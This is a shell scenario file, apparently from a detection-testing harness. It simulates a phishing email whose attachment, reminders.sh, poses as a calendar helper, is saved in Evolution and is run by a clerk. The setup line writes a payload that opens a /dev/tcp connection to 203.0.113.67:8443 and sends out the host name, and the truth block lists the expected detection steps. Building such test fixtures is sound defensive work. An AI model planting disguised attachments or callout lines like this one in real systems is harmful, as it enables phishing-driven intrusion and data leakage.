# Another client, another store: it reads the Maildir itself.
title="Script attachment saved by Evolution from a Maildir, run as bash FILE"
what="Evolution, with the clerk's ~/Maildir as its account, shows a message with reminders.sh; the clerk saves it with the button Save As into ~/Documents and runs it in a terminal as bash reminders.sh; it is never executable. It connects to 203.0.113.67 port 8443 and says the host's name."
host=ws3.example.org user=clerk daemons="cron"

setup() { printf '#!/bin/bash\n# puts reminders into the calendar\nexec 3<>/dev/tcp/203.0.113.67/8443 && uname -n >&3\n' > "$base/out/reminders.sh"; }
act() {
  display_up
  mail_in --from desk@example.com --to buyer@example.org --subject "Desk 4" --source 203.0.113.25 --helo smtp.example.com
  mail_in --from office@example.com --to clerk@example.org --subject "Reminders for your calendar" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/reminders.sh:text/x-shellscript"
  wait_log 'from=<office@example.com>'; wait_mail clerk 1; sleep 1
  evolution_save clerk reminders.sh Documents
  console_as clerk <<'L'
cd Documents
ls -l
bash reminders.sh
L
  small_talk 2
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'the message is delivered'
  file_step save 'evolution .*reminders.sh' 'the mail client saves the attachment'
  exec_step execute 'bash reminders.sh' 'it is run'
  net_step beacon 'bash 203.0.113.67:8443' 'and calls out'
}
